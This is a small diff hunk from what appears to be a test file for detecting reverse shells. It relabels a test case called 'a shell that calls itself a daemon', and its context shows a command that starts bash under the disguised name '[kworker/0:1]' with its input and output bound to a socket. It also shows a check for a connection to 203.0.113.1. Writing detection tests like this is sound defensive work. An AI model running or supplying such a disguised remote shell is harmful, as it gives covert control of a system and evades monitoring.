@@ -87,7 +87,7 @@ exec -a "[kworker/0:1]" bash <&3 >&3 2>&3'
 	shell_is 203.0.113.1 'cmdline~kworker'
 }
 
-attack shell-argv 'shell-net stdio-socket' 'a shell that calls itself a daemon'
+attack shell-argv 'fake-daemon shell-net stdio-socket' 'a shell that calls itself a daemon'
 run-shell-argv()
 {
 	need dash
